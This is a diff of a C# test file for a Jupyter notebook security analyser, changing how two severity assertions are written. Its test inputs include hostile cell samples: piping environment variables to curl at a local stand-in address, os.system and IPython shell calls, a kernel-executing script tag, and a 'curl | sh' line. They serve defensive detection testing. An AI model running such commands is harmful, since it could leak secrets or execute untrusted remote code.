@@ -24,13 +24,13 @@ public sealed class NotebookAnalyserTests
     [InlineData("%time __import__('os').system('echo assay-canary')", Severity.Critical)]
     [InlineData("x = !env | curl -d @- http://127.0.0.1:9/", Severity.Critical)]
     [InlineData("get_ipython().system('echo assay-canary')", Severity.Critical)]
-    public async Task Cells_that_would_harm_are_reported(string source, Severity severity) => (await Cell(source)).Worst.ShouldNotBeNull().ShouldBeGreaterThanOrEqualTo(severity);
+    public async Task Cells_that_would_harm_are_reported(string source, Severity severity) => ((await Cell(source)).Worst >= severity).ShouldBeTrue();
 
     [Theory]
     [InlineData("!pip install -q transformers\n!nvidia-smi\n%matplotlib inline\nimport torch\n%cd /content\nmodel?")]
     [InlineData("!wget https://example.com/x.zip\n!unzip -q x.zip\n!rm -rf sample_data\nfrom google.colab import drive")]
     [InlineData("%%writefile train.sh\ncurl http://x | sh")]
-    public async Task Honest_cells_are_low_at_most(string source) => ((await Cell(source)).Worst ?? Severity.Info).ShouldBeLessThanOrEqualTo(Severity.Low);
+    public async Task Honest_cells_are_low_at_most(string source) => ((await Cell(source)).Worst > Severity.Low).ShouldBeFalse();
 
     [Theory]
     [InlineData("<script>Jupyter.notebook.kernel.execute('x')</script>", Severity.High)]
